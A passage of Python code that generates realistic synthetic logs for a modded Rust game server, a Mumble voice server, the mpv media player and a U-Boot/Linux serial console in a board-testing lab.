        o(f"Saved {st['ents']:,} ents, cache({g.f(0.05, 0.4, 2)}), write({g.f(0.01, 0.1, 2)}), disk({g.f(0.0, 0.05, 2)}).", "saved_ents")

    def hook():
        p, v, _ = g.c(PLUGINS)
        o(f"Calling '{g.c(['OnEntityTakeDamage', 'OnPlayerConnected', 'OnEntityDeath', 'CanBuild', 'OnServerSave', 'OnPlayerChat'])}' on '{p} v{v}' took {g.num(100, 900)}ms", "slow_hook")

    def plugin_err():
        p, v, _ = g.c(PLUGINS)
        cls = p.replace(" ", "")
        hook_name = g.c(["OnPlayerDeath", "OnEntityDeath", "OnPlayerRespawned"])
        o(f"Failed to call hook '{hook_name}' on plugin '{p} v{v}' (NullReferenceException: Object reference not set to an instance of an object)", "failed_hook")
        o(f"  at Oxide.Plugins.{cls}.{hook_name} (BasePlayer player, HitInfo info) [0x000{g.hx(2)}] in <{g.hx(32)}>:0 ", "mono_frame")
        o(f"  at Oxide.Plugins.{cls}.DirectCallHook (System.String name, System.Object& ret, System.Object[] args) [0x00{g.hx(3)}] in <{g.hx(32)}>:0 ", "mono_frame")
        o("  at Oxide.Plugins.CSharpPlugin.InvokeMethod (Oxide.Core.Plugins.HookMethod method, System.Object[] args) [0x00079] in <d3ab4d4b7b9244c0b4d7e10e58d1a1d5>:0 ", "mono_frame")
        o("  at Oxide.Core.Plugins.CSPlugin.OnCallHook (System.String name, System.Object[] args) [0x000d8] in <2f9b4ee1a58548819d8f4cfa8b53b1b5>:0 ", "mono_frame")
        o("  at Oxide.Core.Plugins.Plugin.CallHook (System.String hook, System.Object[] args) [0x00060] in <2f9b4ee1a58548819d8f4cfa8b53b1b5>:0 ", "mono_frame")

    def unity_exc():
        o("NullReferenceException: Object reference not set to an instance of an object", "nre")
        for f in g.c([["BaseMountable.DismountAllPlayers () (at <{h}>:0)", "BaseVehicle.OnKilled (HitInfo info) (at <{h}>:0)", "BaseCombatEntity.Die (HitInfo info) (at <{h}>:0)"],
                      ["AIBrain.Think (System.Single delta) (at <{h}>:0)", "ScientistBrain.Think (System.Single delta) (at <{h}>:0)", "AIThinkManager.DoThinking (System.Single maxTime) (at <{h}>:0)"]]):
            o(f.format(h=g.hx(32)), "unity_frame")
        o("", "blank")

    def warn():
        r = g.r.random()
        if r < 0.4:
            o(f"Kinematic body only supports Speculative Continuous collision detection", "kinematic_ccd")
        elif r < 0.7:
            o(f"Invalid NavAgent Position: {g.c(['scientistnpc_roam', 'scientistnpc_patrol', 'tunneldweller'])}[{g.num(10000000, 99999999)}] ({g.f(-2000, 2000, 1)}, {g.f(-5, 60, 1)}, {g.f(-2000, 2000, 1)}) (destroying)", "invalid_navagent")
        else:
            n = g.c(sorted(st["on"])) if st["on"] else g.c(NAMES)
            sid, ip = PLAYERS[n]
            o(f"Kicking {ip}:{st['on'].get(n, g.port())}/{sid}/{n} ({g.c(['FlyHack Violation Level 3.72', 'Projectile Violation', 'EAC: Client not responding'])})", "kicking")
            st["on"].pop(n, None)

    def team():
        if len(st["on"]) < 2:
            return join()
        a, b = g.r.sample(sorted(st["on"]), 2)
        if g.r.random() < 0.5:
            o(f"{a}[{PLAYERS[a][0]}] invited {b}[{PLAYERS[b][0]}] to their team", "team_invite")
        else:
            o(f"{b}[{PLAYERS[b][0]}] has joined {a}[{PLAYERS[a][0]}]'s team", "team_joined")

    def wipe():
        o("Saving complete", "saving_complete")
        o("Unloaded plugin Kits v4.4.1 by k1lly0u", "oxide_unloaded_plugin")
        for name, v, a in PLUGINS[1:]:
            o(f"Unloaded plugin {name} v{v} by {a}", "oxide_unloaded_plugin")
        o("Shutting down server: Quit", "shutting_down")
        L.tick(120)
        startup()

    startup()
    for _ in range(4):
        join()
    ev = [(10, join), (9, leave), (22, chat), (14, death), (2, event), (6, save), (3, hook), (1, plugin_err), (1, unity_exc), (4, warn), (3, team), (0.05, wipe)]
    return L.run(slowed(L, ev, 30), None)


# 8 ---------------------------------------------------------------- Mumble server 1.5 (the mumble-server Debian package) of a gaming guild's voice server, /var/log/mumble-server/mumble-server.log:
#   "<W>2026-12-01 10:00:00.123 1 => <5:alice(12)> Authenticated" (Qt's message type letter glued to the time, the virtual server's number before "=>", the
#   session, name and user id of the client); start-up and shutdown, clients connecting from several platforms, authenticating, moving between
#   channels, being kicked, temporary channels, scanners failing the TLS handshake, wrong passwords, the database being optimised, a certificate warning
@checked
def log_mumble(seed):
    L = Log("mumble_server_log", seed, "full", True, False, start=dt.datetime(2026, 11, 30, 17, 12, 40, tzinfo=UTC))
    g = L.g
    USERS = {n: i for i, n in enumerate(["Raven", "Thorgrim", "lisa_m", "Kobold", "Skadi", "n00bslayer", "Vex", "Marek", "hutch", "Ayla", "grumpy", "Eisbaer", "toby"], start=2)}
    CHANNELS = [("Root", 0, 0), ("Lobby", 1, 0), ("Raid", 2, 0), ("Raid Group A", 3, 2), ("Raid Group B", 4, 2), ("Gaming", 5, 0), ("AFK", 6, 0), ("Officers", 7, 0)]
    CLIENTS = ["1.5.629 (Win: 10.0.22631.1)", "1.5.629 (Win: 10.0.19045.1)", "1.5.613 (X11: Arch Linux)", "1.4.287 (Win: 1.4.287)", "1.5.629 (OSX: 14.6.1)",
               "1.4.0 (Android: 14)", "1.5.629 (X11: Ubuntu 24.04.1 LTS)"]
    st = {"sess": 1, "on": {}, "temp": 20}

    def m(msg, ev, lv="W", srv=True):
        L.t += dt.timedelta(milliseconds=g.num(0, 200))
        L.emit(f"<{lv}>{L.t:%Y-%m-%d %H:%M:%S}.{ms3(L.t)} {'1 => ' if srv else ''}{msg}", ev, lv)

    def ch():
        return g.c(CHANNELS[1:])

    def startup():
        m("Initializing settings from /etc/mumble-server.ini (basepath /etc)", "init_settings", srv=False)
        m('Meta: TLS cipher preference is "TLS_AES_256_GCM_SHA384:TLS_CHACHA20_POLY1305_SHA256:TLS_AES_128_GCM_SHA256:ECDHE-RSA-AES256-GCM-SHA384:ECDHE-ECDSA-AES256-GCM-SHA384"', "tls_cipher", srv=False)
        m("OpenSSL: OpenSSL 3.0.13 30 Jan 2024", "openssl", srv=False)
        m("ServerDB: Openend SQLite database /var/lib/mumble-server/mumble-server.sqlite", "serverdb_opened", srv=False)
        m("ServerDB: Using SQLite's default rollback journal.", "serverdb_journal", srv=False)
        m("Resource limits were 0 0", "resource_limits", srv=False)
        m("Successfully dropped capabilities", "dropped_caps", srv=False)
        m("Murmur 1.5.629 (1.5.629) running on X11: Debian GNU/Linux 12 (bookworm): Booting servers", "booting_servers", srv=False)
        m("Server listening on [::]:64738", "listening")
        m("Announcing server via bonjour", "bonjour")
        if g.r.random() < 0.4:
            m("SSL: Certificate for 'voice.guild.example' expires in 6 days", "cert_expires")
        st["on"] = {}

    def connect():
        st["sess"] += 1
        s = st["sess"]
        known = [n for n in USERS if n not in [v[0] for v in st["on"].values()]]
        ip = g.ip("pub")
        port = g.port()
        m(f"<{s}:(-1)> New connection: {ip}:{port}", "new_connection")
        r = g.r.random()
        if r < 0.12:
            m(f"<{s}:(-1)> SSL Error: {g.c(['The remote host closed the connection', 'Error during SSL handshake: error:0A00010B:SSL routines::wrong version number', 'Error during SSL handshake: error:0A000126:SSL routines::unexpected eof while reading'])}", "ssl_error")
            m(f"<{s}:(-1)> Connection closed: {g.c(['The remote host closed the connection', 'Error during SSL handshake'])} [-1]", "connection_closed")
            return
        m(f"<{s}:(-1)> Client version {g.c(CLIENTS)}", "client_version")
        if not known or r < 0.2:
            name = g.c(list(USERS) + ["guest" + str(g.num(1, 99)), "Gast"])
            reason = g.c(["Invalid server password", "Wrong certificate or password for existing user", "Username already in use"])
            uid = USERS.get(name, -1) if reason != "Invalid server password" else -1
            m(f"<{s}:{name}({uid})> Rejected connection from {ip}:{port}: {reason}", "rejected")
            m(f"<{s}:{name}({uid})> Connection closed: The remote host closed the connection [1]", "connection_closed")
            return
        name = g.c(known)
        uid = USERS[name]
        st["on"][s] = (name, uid)
        m(f"<{s}:{name}({uid})> Authenticated", "authenticated")
        c = ch()
        m(f"<{s}:{name}({uid})> Moved {name}:{s}({uid}) to {c[0]}[{c[1]}:{c[2]}]", "moved")

    def disconnect():
        if not st["on"]:
            return connect()
        s = g.c(sorted(st["on"]))
        name, uid = st["on"].pop(s)
        m(f"<{s}:{name}({uid})> Connection closed: {g.c(['The remote host closed the connection', 'The remote host closed the connection', 'Timeout', 'Error while reading data from the socket: Connection reset by peer'])} [{g.c([1, 1, -1])}]", "connection_closed")

    def move():
        if not st["on"]:
            return connect()
        s = g.c(sorted(st["on"]))
        name, uid = st["on"][s]
        c = ch()
        if g.r.random() < 0.85:
            m(f"<{s}:{name}({uid})> Moved {name}:{s}({uid}) to {c[0]}[{c[1]}:{c[2]}]", "moved")
        else:
            admins = [k for k, v in st["on"].items() if v[0] in ("Raven", "Thorgrim")]
            a = g.c(admins) if admins else s
            an, au = st["on"][a]
            m(f"<{a}:{an}({au})> Moved {name}:{s}({uid}) to AFK[6:0]", "moved")

    def temp():
        if not st["on"]:
            return connect()
        s = g.c(sorted(st["on"]))
        name, uid = st["on"][s]
        st["temp"] += 1
        cname = g.c(["Duo", "Dungeon run", f"{name}'s channel", "PvP", "chill"])
        m(f"<{s}:{name}({uid})> Added channel {cname}[{st['temp']}:5]", "added_channel")
        L.tick(600)
        m(f"Removed channel {cname}[{st['temp']}:5]", "removed_channel")

    def kick():
        if len(st["on"]) < 2:
            return connect()
        s = g.c(sorted(st["on"]))
        name, uid = st["on"].pop(s)
        a = g.c(sorted(st["on"]))
        an, au = st["on"][a]
        reason = g.c(["", "spam", "afk too long", "mic echo"])
        if g.r.random() < 0.8:
            m(f"<{a}:{an}({au})> Kicked {name}:{s}({uid}) ({reason})", "kicked")
        else:
            m(f"<{a}:{an}({au})> Kickbanned {name}:{s}({uid}) ({reason})", "kickbanned")
        m(f"<{s}:{name}({uid})> Connection closed: The remote host closed the connection [1]", "connection_closed")

    def speak():
        if not st["on"]:
            return connect()
        s = g.c(sorted(st["on"]))
        name, uid = st["on"][s]
        m(f"<{s}:{name}({uid})> Changed speak-state {name}:{s}({uid}) ({g.num(0, 1)} {g.num(0, 1)} {g.num(0, 1)} 0 0)", "speak_state")

    def ban():
        m(f"Ignoring connection: {g.ip('pub')}:{g.port()} (Server ban)", "ignoring_ban")

    def texture():
        if not st["on"]:
            return connect()
        s = g.c(sorted(st["on"]))
        name, uid = st["on"][s]
        m(f"<{s}:{name}({uid})> Certificate has changed ({g.hx(40)})", "certificate_changed")

    def db():
        if g.r.random() < 0.7:
            m("ServerDB: Optimized database, 0 rows freed", "db_optimized", srv=False)
        else:
            m(f"ServerDB: Failed to delete old logs: database is locked", "db_locked", "C", srv=False)

    def restart():
        m("Killing running servers", "killing_servers", srv=False)
        for s, (name, uid) in sorted(st["on"].items()):
            m(f"<{s}:{name}({uid})> Connection closed: Server shutdown [-1]", "connection_closed")
        m("Stopped", "stopped")
        m("Shutting down", "shutting_down", srv=False)
        L.tick(30)
        startup()

    startup()
    ev = [(18, connect), (14, disconnect), (16, move), (2, temp), (1.2, kick), (10, speak), (3, ban), (0.5, texture), (0.3, db), (0.05, restart)]
    return L.run(slowed(L, ev, 50), None)


# 9 ---------------------------------------------------------------- mpv 0.38 on a Linux desktop playing a season of a series from a folder with --log-file (verbose), ~/.cache/mpv-debug.log:
#   "[  12.345][v][cplayer] message": the seconds since mpv started, the message level letter (f e w i v d t) and the module; the build banner, one block
#   per file (opening, probing demuxers, track list, decoders and hardware decoding, audio and video outputs), key bindings run while watching (seeks,
#   pause, volume, subtitles), an IPC client, decoder warnings, a broken file, A/V desync warnings, the end of each file and the quit
@checked
def log_mpv(seed):
    L = Log("mpv_log_file", seed, "rel", True, True, start=dt.datetime(2026, 12, 4, 20, 11, 3, tzinfo=UTC))
    g = L.g
    T0 = L.t
    DIR = "/home/jonas/Videos/Frieren S01"
    FILES = [f"{DIR}/[SubsPlease] Sousou no Frieren - {n:02d} (1080p) [{g.HX(8)}].mkv" for n in range(1, 29)]
    st = {"i": 0, "vol": 100, "pos": 0.0}

    def p(lv, mod, msg, ev):
        L.t += dt.timedelta(microseconds=g.num(0, 4000))
        rel = (L.t - T0).total_seconds()
        L.emit(f"[{rel:8.3f}][{lv}][{mod}] {msg}", ev, lv, mod)

    def banner():
        p("v", "cplayer", "mpv v0.38.0 Copyright © 2000-2024 mpv/MPlayer/mplayer2 projects", "mpv_copyright")
        p("v", "cplayer", " built on Apr 17 2024 23:10:10", "built_on")
        p("v", "cplayer", "libplacebo version: v6.338.2", "libplacebo_version")
        p("v", "cplayer", "FFmpeg version: n6.1.1", "ffmpeg_version")
        p("v", "cplayer", "FFmpeg library versions:", "ffmpeg_libs")
        for lib, v in [("libavutil", "58.29.100"), ("libavcodec", "60.31.102"), ("libavformat", "60.16.100"), ("libswscale", "7.5.100"), ("libavfilter", "9.12.100"), ("libswresample", "4.12.100")]:
            p("v", "cplayer", f"   {lib:<15} {v}", "ffmpeg_lib_version")
        p("v", "cplayer", "Configuration: -Dlibmpv=true -Dgl-x11=enabled -Dwayland=enabled -Dvaapi=enabled -Dvulkan=enabled -Dpipewire=enabled -Dlua=luajit", "configuration")
        p("v", "cplayer", "List of enabled features: alsa cplugins drm egl gbm gl jpeg lcms2 libass libplacebo lua luajit pipewire pulse vaapi vulkan wayland x11", "enabled_features")
        p("v", "cplayer", "Reading config file /home/jonas/.config/mpv/mpv.conf", "reading_config")
        p("v", "cplayer", "Reading config file /home/jonas/.config/mpv/input.conf", "reading_config")
        p("v", "cplayer", f"Command line options: '--log-file=/home/jonas/.cache/mpv-debug.log' '{DIR}'", "command_line")
        for sc in ["/usr/share/mpv/scripts/mpris.so", "@osc.lua", "@ytdl_hook.lua", "@stats.lua", "@console.lua", "@auto_profiles.lua", "/home/jonas/.config/mpv/scripts/autoload.lua"]:
            p("v", "cplayer", f"Loading {'C plugin' if sc.endswith('.so') else 'lua script'} {sc}...", "loading_script")
        p("v", "ipc", "Starting IPC master", "ipc_master")
        p("v", "cplayer", f"Adding playlist entries from directory {DIR}", "adding_playlist")

    def open_file():
        f = FILES[st["i"] % len(FILES)]
        st["i"] += 1
        p("i", "cplayer", f"Playing: {f}", "playing")
        p("v", "file", f"Opening {f}", "file_opening")
        p("d", "file", "resize stream to 131072 bytes, drop 0 bytes", "resize_stream")
        p("d", "file", "Stream opened successfully.", "stream_opened")
        p("v", "demux", "Trying demuxers for level=normal.", "trying_demuxers")
        for d in ["disc", "edl", "cue", "rawaudio", "rawvideo", "mkv"]:
            p("d", "demux", f"Trying demuxer: {d} (force-level: normal)", "trying_demuxer")
        p("v", "demux", "Detected file format: mkv (Matroska)", "detected_format")
        if g.r.random() < 0.08:
            p("e", "ffmpeg/demuxer", f"matroska,webm: Read error at pos. {g.num(10 ** 6, 10 ** 9)} (0x{g.hx(8)})", "read_error")
        p("v", "cplayer", f"Opening done: {f}", "opening_done")
        p("v", "find_files", f"Loading external files in {DIR}/", "loading_external")
        p("v", "cplayer", "Running hook: ytdl_hook/on_preloaded", "running_hook")
        ep = st["i"]
        p("i", "cplayer", f" (+) Video --vid=1 (*) 'Episode {ep}' (hevc 1920x1080 23.976fps)", "track_video")
        p("i", "cplayer", " (+) Audio --aid=1 --alang=jpn (*) 'Japanese' (aac 2ch 44100Hz)", "track_audio_sel")
        p("i", "cplayer", " (+) Subs  --sid=1 --slang=eng (*) 'English subs' (ass)", "track_subs_sel")
        p("i", "cplayer", "     Subs  --sid=2 --slang=ger 'Deutsch' (ass)", "track_subs")
        p("i", "cplayer", f"File tags:", "file_tags")
        p("i", "cplayer", f" Title: Sousou no Frieren - {ep:02d}", "file_tag_title")
        p("v", "vd", "Container reported FPS: 23.976024", "container_fps")
        p("v", "vd", "Codec list:", "codec_list")
        p("v", "vd", "    hevc - HEVC (High Efficiency Video Coding)", "codec_entry")
        p("v", "vd", "    hevc_v4l2m2m (hevc) - V4L2 mem2mem HEVC decoder wrapper", "codec_entry")
        p("v", "vd", "Opening decoder hevc", "opening_decoder")
        p("v", "vd", "Looking at hwdec hevc-vaapi...", "looking_hwdec")
        if g.r.random() < 0.9:
            p("v", "vd", "Trying hardware decoding via hevc-vaapi.", "trying_hwdec")
            p("i", "vd", "Using hardware decoding (vaapi).", "using_hwdec")
        else:
            p("w", "vd", "Could not create device.", "hwdec_failed")
            p("v", "vd", "No hardware decoding available for this codec.", "no_hwdec")
        p("v", "vd", "Selected decoder: hevc - HEVC (High Efficiency Video Coding)", "selected_decoder")
        p("v", "ad", "Codec list:", "codec_list")
        p("v", "ad", "    aac - AAC (Advanced Audio Coding)", "codec_entry")
        p("v", "ad", "    aac_fixed (aac) - AAC (Advanced Audio Coding)", "codec_entry")
        p("v", "ad", "Opening decoder aac", "opening_decoder")
        p("v", "ad", "Requesting 1 threads for decoding.", "requesting_threads")
        p("v", "ad", "Selected decoder: aac - AAC (Advanced Audio Coding)", "selected_decoder")
        p("v", "af", "User filter list:", "user_filter_list")
        p("v", "af", "  (empty)", "filter_empty")
        p("i", "cplayer", "AO: [pipewire] 44100Hz stereo 2ch floatp", "ao")
        p("v", "cplayer", "AO: Description: PipeWire audio output", "ao_description")
        p("v", "vo/gpu-next", "reconfig to 1920x1080 vaapi[nv12] bt.709/bt.709/bt.1886/limited/display SP=1.000000 CL=mpeg2/4/h264", "reconfig")
        p("i", "cplayer", "VO: [gpu-next] 1920x1080 vaapi[nv12]", "vo")
        p("v", "cplayer", "VO: Description: Video output based on libplacebo", "vo_description")
        p("v", "osd/libass", "libass API version: 0x01703000", "libass_version")
        p("v", "osd/libass", "libass source: git: 0.17.1", "libass_source")
        p("v", "osd/libass", f"Loading font file 'attachment:{g.c(['Roboto-Medium.ttf', 'GandhiSans-Bold.otf', 'ArialRoundedMTBold.ttf'])}'", "loading_font")
        p("v", "cplayer", "first video frame after restart shown", "first_frame")
        p("v", "cplayer", "playback restart complete @ 0.000000, audio=playing, video=playing", "restart_complete")
        p("v", "cplayer", "Starting playback...", "starting_playback")
        st["pos"] = 0.0

    def watch():
        L.tick(50)
        st["pos"] += g.r.uniform(20, 200)
        r = g.r.random()
        if r < 0.3:
            off = g.c([5, 5, -5, 10, 60, -10, 85])
            p("d", "cplayer", f'Run command: seek, flags=73, args=[target="{off:.6f}", flags="relative", legacy="unused"]', "run_seek")
            p("v", "cplayer", f"playback restart complete @ {st['pos']:.6f}, audio=playing, video=playing", "restart_complete")
        elif r < 0.45:
            p("d", "cplayer", 'Run command: cycle, flags=73, args=[name="pause", value="up"]', "run_cycle")
            p("v", "cplayer", f"Set property: pause -> {g.c([0, 1])}", "set_property")
        elif r < 0.55:
            st["vol"] = max(0, min(130, st["vol"] + g.c([-2, 2, -2, 2, -5])))
            p("d", "cplayer", f'Run command: add, flags=73, args=[name="volume", value="{g.c([2, -2])}.000000"]', "run_add")
        elif r < 0.6:
            p("d", "cplayer", 'Run command: cycle, flags=73, args=[name="sub", value="up"]', "run_cycle")
            p("v", "cplayer", f"Set property: sid -> {g.c([1, 2, 'no'])}", "set_property")
        elif r < 0.7:
            k = g.r.random()
            if k < 0.4:
                p("w", "ffmpeg/video", f"hevc: Invalid NAL unit size ({g.num(1000, 90000)} > {g.num(100, 999)}).", "ffmpeg_invalid_nal")
                p("w", "ffmpeg/video", f"hevc: Error parsing NAL unit #{g.num(1, 9)}.", "ffmpeg_error_parsing_nal")
            else:
                p("w", "ffmpeg/video", f"hevc: Could not find ref with POC {g.num(1, 90)}", "ffmpeg_no_ref_poc")
        elif r < 0.78:
            p("v", "vo/gpu-next", f"Dropping frame at pts {st['pos']:.6f}: {g.c(['too late', 'late frame'])}", "vo_drop")
        elif r < 0.85:
            p("d", "cplayer", 'Run command: script-binding, flags=73, args=[name="stats/display-stats-toggle"]', "run_script_binding")
        elif r < 0.9:
            p("w", "cplayer", "", "avsync_blank")
            p("w", "cplayer", "Audio/Video desynchronisation detected! Possible reasons include too slow", "avsync_1")
            p("w", "cplayer", "hardware, temporary CPU spikes, broken drivers, and broken files. Audio", "avsync_2")
            p("w", "cplayer", "position will not match to the video (see A-V status field).", "avsync_3")
            p("w", "cplayer", "Consider trying `--profile=fast` and/or `--hwdec=auto-safe` as they may help.", "avsync_4")
            p("w", "cplayer", "", "avsync_blank")
        elif r < 0.95:
            n = g.num(5, 9)
            p("v", f"ipc_{n}", "Client connected", "ipc_client_connected")
            p("d", f"ipc_{n}", 'Run command: get_property, flags=64, args=[name="time-pos"]', "run_get_property")
            p("v", f"ipc_{n}", "Client disconnected", "ipc_client_disconnected")
        else:
            p("v", "cplayer", f"Set property: fullscreen -> {g.c(['yes', 'no'])}", "set_property")
            p("v", "vo/gpu-next", f"Window size: {g.c(['2560x1440', '1920x1080'])} (Borders: l=0 t=0 r=0 b=0)", "window_size")

    def end():
        if g.r.random() < 0.85:
            p("v", "cplayer", "EOF code: 1", "eof_code")
        else:
            p("d", "cplayer", 'Run command: playlist-next, flags=73, args=[flags="weak"]', "run_playlist_next")
        p("d", "ad", "Uninit decoder.", "uninit_decoder")
        p("d", "vd", "Uninit decoder.", "uninit_decoder")
        p("v", "cplayer", "finished playback, success (reason 0)", "finished_playback")

    banner()
    while len(L.rows) < N_LINES - 140:
        open_file()
        for _ in range(g.num(8, 30)):
            watch()
        end()
    open_file()
    while len(L.rows) < N_LINES - 13:
        watch()
    end()
    p("i", "cplayer", "Saving state.", "saving_state")
    p("v", "cplayer", "Exiting... (Quit)", "exiting")
    for msg, ev in [("Uninit lua script osc", "uninit_script"), ("Uninit lua script stats", "uninit_script"), ("Uninit lua script console", "uninit_script"),
                    ("Destroying client handle main", "destroying_handle"), ("Done uninit.", "done_uninit"), ("Exiting...", "exiting_plain"), ("", "blank")]:
        if len(L.rows) < N_LINES:
            p("d", "cplayer", msg, ev)
    while len(L.rows) < N_LINES:
        p("d", "cplayer", "Done uninit.", "done_uninit")
    del L.rows[N_LINES:]
    return L


# 10 --------------------------------------------------------------- The serial console of a Radxa ROCK Pi 4B in a LAVA board farm (a kernel CI lab), the raw capture of one device over a night
#   of jobs: each job power-cycles the board: the TPL's DRAM training, the SPL, Trusted Firmware's NOTICE/INFO lines, U-Boot's banner and probe, the lab
#   interrupting autoboot and typing at the "=> " prompt (dhcp, tftp with its rows of "#", booti), the kernel's "[    0.000000] ..." lines up to the
#   initramfs, then the LAVA test shell's signals and the tests' output, and the reboot; TFTP timeouts and a missing file, a kernel oops with its call
#   trace. Only the kernel writes a time (seconds since it started)
@checked
def log_uboot(seed):
    L = Log("uboot_serial_console", seed, "rel", True, False, start=dt.datetime(2026, 12, 2, 1, 0, 12, tzinfo=UTC))
    g = L.g
    st = {"k0": None, "job": g.num(1200000, 1300000), "kver": "6.12.1"}
    BUILD = "Oct 02 2026 - 09:14:22"

    def u(text, ev):
        L.t += dt.timedelta(milliseconds=g.num(0, 40))
        L.emit(text, ev, "NOTICE" if text.startswith("NOTICE:") else "INFO" if text.startswith("INFO:") else None)

    def k(off, text, ev):
        t = st["k0"] + dt.timedelta(seconds=off)
        if t > L.t:
            L.t = t
        L.emit(f"[{off:12.6f}] {text}", ev, t=t)

    def firmware():
        u(f"U-Boot TPL 2024.07 ({BUILD})", "tpl_banner")
        for ch in (0, 1):
            u(f"Channel {ch}: LPDDR4, 50MHz", "dram_channel")
            u("BW=32 Col=10 Bk=8 CS0 Row=15 CS1 Row=15 CS=2 Die BW=16 Size=2048MB", "dram_geometry")
        u("256B stride", "dram_stride")
        u("lpddr4_set_rate: change freq to 400000000 mhz 0, 1", "lpddr4_set_rate")
        u("lpddr4_set_rate: change freq to 800000000 mhz 1, 0", "lpddr4_set_rate")
        u("Trying to boot from BOOTROM", "trying_boot_from")
        u("Returning to boot ROM...", "returning_bootrom")
        u("", "blank")
        u(f"U-Boot SPL 2024.07 ({BUILD} +0000)", "spl_banner")
        u("Trying to boot from MMC1", "trying_boot_from")
        u("NOTICE:  BL31: v2.11.0(release):v2.11.0", "bl31_notice_version")
        u("NOTICE:  BL31: Built : 09:13:51, Oct  2 2026", "bl31_notice_built")
        for text, ev in [("INFO:    GICv3 with legacy support detected.", "bl31_info_gic"), ("INFO:    ARM GICv3 driver initialized in EL3", "bl31_info_gic_init"),
                         ("INFO:    Maximum SPI INTID supported: 287", "bl31_info_spi"), ("INFO:    plat_rockchip_pmu_init(1624): pd status 3e", "bl31_info_pmu"),
                         ("INFO:    BL31: Initializing runtime services", "bl31_info_runtime"), ("INFO:    BL31: cortex_a53: CPU workaround for erratum 855873 was applied", "bl31_info_erratum"),
                         ("INFO:    BL31: cortex_a53: CPU workaround for erratum 1530924 was applied", "bl31_info_erratum"),
                         ("INFO:    BL31: Preparing for EL3 exit to normal world", "bl31_info_exit"), ("INFO:    Entry point address = 0x200000", "bl31_info_entry"), ("INFO:    SPSR = 0x3c9", "bl31_info_spsr")]:
            u(text, ev)
        u("", "blank")
        u("", "blank")
        u(f"U-Boot 2024.07 ({BUILD} +0000)", "uboot_banner")
        u("", "blank")
        u("SoC: Rockchip rk3399", "soc")
        u(f"Reset cause: {g.c(['POR', 'POR', 'RST'])}", "reset_cause")
        u("Model: Radxa ROCK Pi 4B", "model")
        u("DRAM:  3.9 GiB (effective 3.9 GiB)", "dram")
        u("PMIC:  RK808 ", "pmic")
        u("Core:  315 devices, 33 uclasses, devicetree: separate", "core")
        u("MMC:   mmc@fe310000: 3, mmc@fe320000: 1, mmc@fe330000: 0", "mmc")
        u("Loading Environment from SPIFlash... Invalid bus 0 (err=-19)", "loading_env")
        u("*** Warning - spi_flash_probe_bus_cs() failed, using default environment", "env_warning")
        u("", "blank")
        u("In:    serial", "console_in")
        u("Out:   serial", "console_out")
        u("Err:   serial", "console_err")
        u("Model: Radxa ROCK Pi 4B", "model")
        u("Net:   eth0: ethernet@fe300000", "net")
        u("Hit any key to stop autoboot:  2 ", "hit_any_key")
        L.tick(1)

    def prompt(cmd):
        L.tick(0.4)
        u(f"=> {cmd}", "prompt_command")

    def tftp(addr, path, size, fail=None):
        prompt(f"tftp {addr} {path}")
        u("Using ethernet@fe300000 device", "using_device")
        u(f"TFTP from server 10.42.0.1; our IP address is {st['ip']}", "tftp_from_server")
        u(f"Filename '{path}'.", "tftp_filename")
        u(f"Load address: 0x{int(addr, 16):x}", "tftp_load_address")
        if fail == "notfound":
            u("Loading: *", "tftp_loading_star")
            u("TFTP error: 'File not found' (1)", "tftp_error")
            u("Not retrying...", "not_retrying")
            return False
        if fail == "timeout":
            u("Loading: T T T T T T T T T T ", "tftp_loading_timeouts")
            u("Retry count exceeded; starting again", "retry_exceeded")
            return False
        rows = max(1, size // (1468 * 10 * 65) + 1)
        u("Loading: " + "#" * 65, "tftp_loading_hashes")
        for i in range(1, rows):
            L.t += dt.timedelta(milliseconds=g.num(80, 200))
            u("\t " + "#" * (65 if i < rows - 1 else g.num(1, 65)), "tftp_hash_row")
        u(f"\t {g.f(3, 9, 1)} MiB/s", "tftp_rate")
        u("done", "tftp_done")
        u(f"Bytes transferred = {size} ({size:x} hex)", "bytes_transferred")
        return True

    def kernel(oops=False):
        st["k0"] = L.t
        off = 0.0
        lines = [("Booting Linux on physical CPU 0x0000000000 [0x410fd034]", "k_booting"),
                 (f"Linux version {st['kver']} (tuxmake@tuxmake) (aarch64-linux-gnu-gcc (Debian 13.2.0-12) 13.2.0, GNU ld (GNU Binutils for Debian) 2.42) #1 SMP PREEMPT @{int(epoch(L.t)) - g.num(3600, 90000)}", "k_linux_version"),
                 ("KASLR disabled due to lack of seed", "k_kaslr"), ("Machine model: Radxa ROCK Pi 4B", "k_machine_model"),
                 ("efi: UEFI not found.", "k_efi"), (f"earlycon: uart0 at MMIO32 0x00000000ff1a0000 (options '1500000n8')", "k_earlycon"),
                 ("printk: legacy bootconsole [uart0] enabled", "k_bootconsole"), ("NUMA: Faking a node at [mem 0x0000000000200000-0x00000000f7ffffff]", "k_numa"),
                 ("Zone ranges:", "k_zone_ranges"), ("  DMA      [mem 0x0000000000200000-0x00000000f7ffffff]", "k_zone"), ("  DMA32    empty", "k_zone_empty"), ("  Normal   empty", "k_zone_empty"),
                 ("psci: probing for conduit method from DT.", "k_psci_probe"), ("psci: PSCIv1.1 detected in firmware.", "k_psci_detected"),
                 (f"percpu: Embedded 33 pages/cpu s{g.num(90000, 99999)} r8192 d{g.num(28000, 32000)} u135168", "k_percpu"),
                 ("Detected VIPT I-cache on CPU0", "k_vipt"), ("CPU features: detected: GIC system register CPU interface", "k_cpu_features"),
                 ("Kernel command line: console=ttyS2,1500000n8 earlycon=uart8250,mmio32,0xff1a0000 root=/dev/ram0 ip=dhcp", "k_cmdline"),
                 (f"Memory: {g.num(3890000, 3900000)}K/4061184K available (17408K kernel code, 4620K rwdata, 12160K rodata, 10240K init, 1047K bss, {g.num(160000, 170000)}K reserved, 0K cma-reserved)", "k_memory"),
                 ("rcu: Preemptible hierarchical RCU implementation.", "k_rcu"), ("GICv3: GIC: Using split EOI/Deactivate mode", "k_gic_split"),
                 ("GICv3: 256 SPIs implemented", "k_gic_spis"), ("arch_timer: cp15 timer(s) running at 24.00MHz (phys).", "k_arch_timer"),
                 ("Console: colour dummy device 80x25", "k_console_dummy"), ("Calibrating delay loop (skipped), value calculated using timer frequency.. 48.00 BogoMIPS (lpj=96000)", "k_bogomips"),
                 ("smp: Bringing up secondary CPUs ...", "k_smp_bringing"), ("CPU1: Booted secondary processor 0x0000000001 [0x410fd034]", "k_cpu_booted"),
                 ("CPU2: Booted secondary processor 0x0000000002 [0x410fd034]", "k_cpu_booted"), ("CPU3: Booted secondary processor 0x0000000003 [0x410fd034]", "k_cpu_booted"),
